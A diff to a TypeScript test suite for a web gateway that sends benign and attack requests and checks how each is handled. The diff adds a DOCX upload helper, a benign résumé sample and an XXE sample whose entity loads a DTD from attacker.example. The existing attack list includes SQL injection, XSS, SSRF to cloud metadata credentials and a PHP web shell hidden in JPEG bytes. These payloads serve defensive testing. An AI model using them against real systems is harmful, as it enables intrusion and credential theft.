@@ -8,6 +8,7 @@ import assert from 'node:assert/strict';
 import { request } from 'undici';
 import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
 import { startGateway, type TestGateway } from '../helpers/gateway.ts';
+import { zipArchive } from '../helpers/zip.ts';
 
 let upstream: TestUpstream;
 let gw: TestGateway;
@@ -18,18 +19,21 @@ before(async () => {
 });
 after(async () => { await gw.close(); await upstream.close(); });
 
-interface Sample { readonly label: string; readonly path: string; readonly method?: string; readonly body?: string; readonly type?: string; readonly headers?: Record<string, string> }
+interface Sample { readonly label: string; readonly path: string; readonly method?: string; readonly body?: string; readonly type?: string; readonly headers?: Record<string, string>; readonly latin1?: boolean }
 
 const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
 const json = (label: string, path: string, value: unknown, type = 'application/json', method = 'POST'): Sample => ({ label, path, method, body: JSON.stringify(value), type });
 const q = encodeURIComponent;
+const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+const docx = (documentXml: string): string => zipArchive([['[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'], ['word/document.xml', documentXml]]).toString('latin1');
 const basic = (user: string, password: string): string => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
 const jwt = (header: object): string => `Bearer ${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify({ sub: '1001', exp: 1900000000 })).toString('base64url')}.c2lnbmF0dXJl`;
 
 async function send(s: Sample): Promise<{ status: number; text: string }> {
   const headers: Record<string, string> = { 'user-agent': UA, ...s.headers };
   if (s.type !== undefined) headers['content-type'] = s.type;
-  const res = await request(`${gw.url}${s.path}`, { method: (s.method ?? (s.body === undefined ? 'GET' : 'POST')) as 'GET', body: s.body, headers });
+  const body = s.body !== undefined && s.latin1 === true ? Buffer.from(s.body, 'latin1') : s.body;
+  const res = await request(`${gw.url}${s.path}`, { method: (s.method ?? (s.body === undefined ? 'GET' : 'POST')) as 'GET', body, headers });
   return { status: res.statusCode, text: await res.body.text() };
 }
 
@@ -124,6 +128,7 @@ const BENIGN: Sample[] = [
   // a bulk import: one 400 KB text file (refused with 413 while the longest value inspected was 256 KiB)
   { label: 'a 400 KB CSV upload', path: '/api/customers/import', type: 'multipart/form-data; boundary=b1', body: `--b1\r\nContent-Disposition: form-data; name="file"; filename="customers.csv"\r\nContent-Type: text/csv\r\n\r\nid,name,email,city\r\n${Array.from({ length: 9000 }, (_, i) => `${i},Kim ${i},kim${i}@example.com,Seoul`).join('\r\n')}\r\n--b1--\r\n` },
   json('a vision request with a 150 KB base64 image', '/v1/chat/completions', { model: 'gpt-4o', messages: [{ role: 'user', content: [{ type: 'text', text: 'What is in this receipt?' }, { type: 'image_url', image_url: { url: `data:image/jpeg;base64,${Buffer.from(Array.from({ length: 112_000 }, (_, i) => (i * 131 + (i >> 7)) & 0xff)).toString('base64')}` } }] }] }),
+  { label: 'a DOCX résumé upload', path: '/api/v1/files/resume.docx', method: 'PUT', type: DOCX_TYPE, body: docx('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Skills: SQL (SELECT ... FROM), bash, C#</w:t></w:r></w:p></w:body></w:document>'), latin1: true },
   json('a chat message that is one link', '/api/channels/7/messages', { content: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ' }),
 ];
 
@@ -144,6 +149,7 @@ const ATTACKS: Sample[] = [
   { label: 'SQL in a batch request\'s query', path: '/odata/$batch', type: 'multipart/mixed; boundary=b1', body: ['--b1', 'Content-Type: application/http', '', "GET /api/users?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1", '', '', '--b1--', ''].join('\r\n') },
   { label: 'XSS in a batch request\'s JSON body', path: '/batch', type: 'multipart/mixed; boundary=b1', body: ['--b1', 'Content-Type: application/http', '', 'POST /api/comments HTTP/1.1', 'Content-Type: application/json', '', JSON.stringify({ text: '<svg onload=alert(document.domain)>' }), '--b1--', ''].join('\r\n') },
   { label: 'web shell in the media part of a related upload', path: '/upload/files?uploadType=multipart', type: 'multipart/related; boundary=b1', body: ['--b1', 'Content-Type: application/json', '', '{"name":"cat.jpg"}', '--b1', 'Content-Type: image/jpeg', 'Content-Transfer-Encoding: base64', '', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('<?php system($_GET["c"]); ?>')]).toString('base64'), '--b1--', ''].join('\r\n') },
+  { label: 'XXE inside a DOCX upload', path: '/api/v1/files/resume.docx', method: 'PUT', type: DOCX_TYPE, body: docx('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/d.dtd"> %p;]><w:document/>'), latin1: true },
   json('XSS in a Segment property', '/v1/batch', { batch: [{ type: 'track', properties: { name: '<img src=x onerror=alert(document.cookie)>' } }] }, 'text/plain'),
   json('SSRF in a webhook URL', '/api/webhooks', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
   json('SQL in a filter field', '/api/search', { filter: { field: 'name', op: 'eq', value: "Kim' or '1'='1" } }),
